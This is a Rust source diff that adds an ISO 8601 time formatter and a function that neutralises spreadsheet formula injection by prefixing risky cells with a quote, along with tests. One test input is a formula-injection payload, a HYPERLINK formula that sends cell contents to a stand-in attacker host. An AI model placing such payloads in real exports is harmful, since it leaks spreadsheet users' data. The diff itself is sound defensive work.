@@ -103,6 +103,22 @@ pub fn time(unix: i64) -> String {
     units::format_time(unix)
 }
 
+/// Unix seconds as an RFC 3339 (ISO 8601) UTC instant,
+/// `2027-03-01T12:00:00Z`.
+pub fn instant(unix: i64) -> String {
+    units::format_rfc3339(unix)
+}
+
+/// A cell a spreadsheet cannot take for a formula: one starting with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`.
+pub fn spreadsheet_safe(cell: &str) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell.to_owned()
+    }
+}
+
 /// Days since 1970-01-01 as `YYYY-MM-DD`.
 pub fn date(day: i64) -> String {
     units::format_date(day)
@@ -146,5 +162,22 @@ mod tests {
         assert_eq!(time(0), "1970-01-01 00:00 UTC");
         assert_eq!(time(1_700_000_000), "2023-11-14 22:13 UTC");
         assert_eq!(date(19_675), "2023-11-14");
+        assert_eq!(instant(1_700_000_000), "2023-11-14T22:13:20Z");
+    }
+
+    #[test]
+    fn formulas_reach_a_spreadsheet_as_text() {
+        for formula in [
+            r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#,
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
+        }
+        assert_eq!(spreadsheet_safe("for the notes"), "for the notes");
+        assert_eq!(spreadsheet_safe("1000000"), "1000000");
     }
 }
